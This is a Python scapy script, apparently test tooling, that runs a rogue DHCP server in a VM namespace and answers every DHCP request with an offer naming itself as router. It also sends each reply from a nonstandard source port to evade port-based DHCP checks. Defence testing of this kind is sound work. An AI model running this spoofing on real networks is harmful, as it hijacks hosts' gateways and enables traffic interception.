#!/usr/bin/python3
"""A rogue DHCP server for the impact test: in VM1's namespace, it answers every
DISCOVER and REQUEST it sees on --interface with an OFFER or ACK for --offer,
twice: from port 67 (a plain server) and from port 6767 to the client's port 68
(the evasion a port-based check misses). One line "answered TYPE xid" on stderr
per reply. Runs until killed.
Usage: rogue_dhcp.py --interface IF --offer A.B.C.D
"""
import argparse
import socket
import sys

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, get_if_addr, get_if_hwaddr


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--interface", required=True)
    ap.add_argument("--offer", required=True)
    a = ap.parse_args()
    mac, me = get_if_hwaddr(a.interface), get_if_addr(a.interface)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((a.interface, 0))
    print("rogue DHCP server on %s (%s, %s) offering %s" % (a.interface, mac, me, a.offer), file=sys.stderr, flush=True)
    while True:
        data, addr = s.recvfrom(65536)
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        p = Ether(data)
        if not (p.haslayer(BOOTP) and p.haslayer(DHCP) and p[BOOTP].op == 1):
            continue
        kinds = dict(o for o in p[DHCP].options if isinstance(o, tuple))
        reply = {1: "offer", 3: "ack"}.get(kinds.get("message-type"))
        if reply is None:
            continue
        for sport in (67, 6767):
            r = (Ether(dst="ff:ff:ff:ff:ff:ff", src=mac) / IP(src=me, dst="255.255.255.255") / UDP(sport=sport, dport=68)
                 / BOOTP(op=2, xid=p[BOOTP].xid, yiaddr=a.offer, siaddr=me, chaddr=p[BOOTP].chaddr, flags=p[BOOTP].flags)
                 / DHCP(options=[("message-type", reply), ("server_id", me), ("lease_time", 3600),
                                 ("subnet_mask", "255.255.255.0"), ("router", me), "end"]))
            s.send(bytes(r))
            print("answered %s %#x from port %d" % (reply, p[BOOTP].xid, sport), file=sys.stderr, flush=True)


if __name__ == "__main__":
    sys.exit(main())
